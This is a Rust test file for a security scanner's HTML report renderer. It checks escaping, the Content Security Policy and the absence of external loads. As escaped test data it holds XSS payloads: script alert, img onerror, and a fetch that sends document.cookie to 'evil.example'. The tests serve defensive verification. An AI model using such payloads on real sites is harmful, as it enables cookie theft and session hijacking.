//! `Report::to_html`: hostile evidence stays text, the page passes its own CSP and loads
//! nothing, and a reader finds every row.

use base64::Engine;
use sha2::{Digest, Sha256};

use crate::fixtures;

/// The elements the page may contain. Report text is escaped, so every `<` in the page opens
/// one of the renderer's own tags; a tag outside this list means text got through unescaped.
const TAGS: &[&str] = &[
    "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "h4",
    "p", "span", "strong", "em", "code", "pre", "section", "article", "div", "table", "thead",
    "tbody", "tr", "th", "td", "a", "dl", "dt", "dd", "footer",
];

/// Each tag of the page: its name and the text of its attributes.
fn tags(html: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let after = &rest[start + 1..];
        let end = after.find('>').expect("every tag closes");
        let inside = after[..end].trim_start_matches('/');
        let (name, attributes) = inside.split_once(' ').unwrap_or((inside, ""));
        found.push((name.to_owned(), attributes.to_owned()));
        rest = &after[end + 1..];
    }
    found
}

/// The values of attribute `name` in an attribute text (the renderer always double-quotes).
fn attribute_values<'a>(attributes: &'a str, name: &str) -> Vec<&'a str> {
    let key = format!("{name}=\"");
    let mut values = Vec::new();
    let mut rest = attributes;
    while let Some(at) = rest.find(&key) {
        let boundary = at == 0 || rest.as_bytes()[at - 1] == b' ';
        let value = &rest[at + key.len()..];
        let end = value.find('"').expect("quoted");
        if boundary {
            values.push(&value[..end]);
        }
        rest = &value[end + 1..];
    }
    values
}

fn pages() -> [String; 2] {
    [
        fixtures::report(true).to_html(),
        fixtures::report(false).to_html(),
    ]
}

#[test]
fn hostile_evidence_titles_and_notes_are_escaped() {
    for html in pages() {
        for (name, attributes) in tags(&html) {
            assert!(
                TAGS.contains(&name.as_str()),
                "unexpected tag <{name} {attributes}>"
            );
            for attribute in attributes.split(' ') {
                assert!(
                    !attribute.to_ascii_lowercase().starts_with("on"),
                    "event handler in <{name} {attributes}>"
                );
            }
        }
        let lower = html.to_ascii_lowercase();
        for forbidden in ["<script", "<img", "<b ", "</pre></td>"] {
            assert!(!lower.contains(forbidden), "{forbidden} got through");
        }
        for escaped in [
            "GET /search?q=&lt;script&gt;alert(1)&lt;/script&gt;&amp;x=&quot;&#39;`",
            "&lt;/pre&gt;&lt;/td&gt;&lt;script&gt;fetch(&#39;http://evil.example/&#39;+document.cookie)&lt;/script&gt;",
            "&lt;img src=x onerror=alert(1)&gt; &quot;q&quot; &#39;a&#39; &amp;amp; &amp;",
            "[U+0000][U+0007][U+0008][U+000D]\nsecond line [U+202E]gpj.exe",
            "[U+001B][31mred",
            "Reflected origin &lt;b onmouseover=alert(1)&gt;x&lt;/b&gt; &amp; &quot;more&quot;",
            "never reflect &lt;Origin&gt; &amp; never send",
            "runs only with --intrusive &lt;not run&gt; &amp; skipped",
        ] {
            assert!(html.contains(escaped), "missing escaped text {escaped:?}");
        }
        for c in html.chars() {
            assert!(
                c == '\n' || !c.is_control(),
                "raw control character {:?} in the page",
                c
            );
            assert!(c != '\u{202e}', "raw right-to-left override in the page");
        }
        assert!(
            html.contains("GET /me (Authorization: [REDACTED])"),
            "masked evidence stays masked"
        );
    }
}

#[test]
fn the_csp_admits_exactly_the_inline_style_by_its_hash() {
    for html in pages() {
        assert_eq!(html.matches("<style>").count(), 1);
        assert_eq!(html.matches("</style>").count(), 1);
        let start = html.find("<style>").expect("style") + "<style>".len();
        let end = html.find("</style>").expect("style end");
        let style = &html[start..end];
        let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(style));
        let tags = tags(&html);
        let csp: Vec<&str> = tags
            .iter()
            .filter(|(name, a)| {
                name == "meta" && a.contains("http-equiv=\"Content-Security-Policy\"")
            })
            .flat_map(|(_, a)| attribute_values(a, "content"))
            .collect();
        assert_eq!(csp.len(), 1, "one CSP");
        let directives: Vec<&str> = csp[0].split(';').map(str::trim).collect();
        assert!(directives.contains(&"default-src 'none'"), "{directives:?}");
        assert!(
            directives.contains(&format!("style-src 'sha256-{hash}'").as_str()),
            "style-src must carry the hash of the style block: {directives:?}"
        );
        assert!(!csp[0].contains("unsafe"), "{}", csp[0]);
        // A style attribute would be blocked by this policy: the page has none.
        for (name, attributes) in &tags {
            assert!(
                attribute_values(attributes, "style").is_empty(),
                "<{name} {attributes}>"
            );
        }
        // The CSP must come before anything it governs.
        assert!(html.find("Content-Security-Policy").expect("csp") < start);
    }
}

#[test]
fn nothing_loads_from_outside_the_page() {
    for html in pages() {
        for (name, attributes) in tags(&html) {
            for attribute in ["src", "srcset", "action", "formaction", "poster", "data"] {
                assert!(
                    attribute_values(&attributes, attribute).is_empty(),
                    "<{name} {attributes}>"
                );
            }
            for href in attribute_values(&attributes, "href") {
                assert!(href.starts_with('#'), "external link <{name} {attributes}>");
            }
            for scheme in ["http:", "https:", "//", "data:", "javascript:"] {
                assert!(
                    !attributes.to_ascii_lowercase().contains(scheme),
                    "URL in an attribute: <{name} {attributes}>"
                );
            }
        }
        let start = html.find("<style>").expect("style");
        let end = html.find("</style>").expect("style end");
        let style = html[start..end].to_ascii_lowercase();
        for fetches in ["url(", "@import", "@font-face", "http"] {
            assert!(!style.contains(fetches), "the style fetches: {fetches}");
        }
        for element in [
            "<link", "<script", "<iframe", "<object", "<embed", "<img", "<base",
        ] {
            assert!(!html.to_ascii_lowercase().contains(element), "{element}");
        }
    }
}

#[test]
fn every_row_the_target_and_the_grade_appear() {
    let report = fixtures::report(true);
    let html = report.to_html();
    assert!(html.contains(&format!("<code>{}</code>", fixtures::TARGET)));
    for row in &report.rows {
        let id = format!("<tr id=\"row-{}\">", row.row);
        let at = html
            .find(&id)
            .unwrap_or_else(|| panic!("row {} missing", row.row));
        let line = html[at..].lines().next().expect("row line");
        assert!(line.contains(row.area), "row {}: {line}", row.row);
        assert!(
            line.contains(row.priority.as_str()),
            "row {}: {line}",
            row.row
        );
        assert!(
            line.contains(row.status.as_str()),
            "row {}: {line}",
            row.row
        );
    }
    assert!(
        html.contains("Grade <strong class=\"grade\">B</strong> (score 70) of <code>/</code>, MDN HTTP Observatory")
    );
    for test in &report.header_grade.as_ref().expect("grade").tests {
        assert!(
            html.contains(&format!("<code>{}</code>", test.name)),
            "{}",
            test.name
        );
    }
    let without = fixtures::report(false).to_html();
    assert!(!without.contains("id=\"header-grade\""));
}

#[test]
fn findings_are_grouped_by_severity_with_evidence_and_remediation() {
    let report = fixtures::report(false);
    let html = report.to_html();
    let position = |text: &str| {
        html.find(text)
            .unwrap_or_else(|| panic!("{text:?} missing"))
    };
    let critical = position(">Critical</h3>");
    let high = position(">High</h3>");
    let medium = position(">Medium</h3>");
    let low = position(">Low</h3>");
    assert!(critical < high && high < medium && medium < low);
    assert!(position("id=\"check-tokens.forgery\"") > critical);
    assert!(position("id=\"check-tokens.forgery\"") < high);
    assert!(position("id=\"check-exposure.files\"") > low);
    // In the low group the failure comes before the warning.
    assert!(position("id=\"check-exposure.files\"") < position("id=\"check-headers.banners\""));
    for c in report.checks.iter().filter(|c| !c.findings.is_empty()) {
        for f in &c.findings {
            assert!(html.contains("<dt>Request</dt>"));
            let remediation = f
                .remediation
                .replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;")
                .replace('\'', "&#39;");
            assert!(html.contains(&remediation), "{remediation}");
        }
    }
    // Passing and not-applicable checks are listed apart, never among the findings.
    let findings_end = position("<section id=\"other-checks\">");
    assert!(position("<tr id=\"check-transport.hsts\">") > findings_end);
    assert!(position("<tr id=\"check-limits.body\">") > findings_end);
}
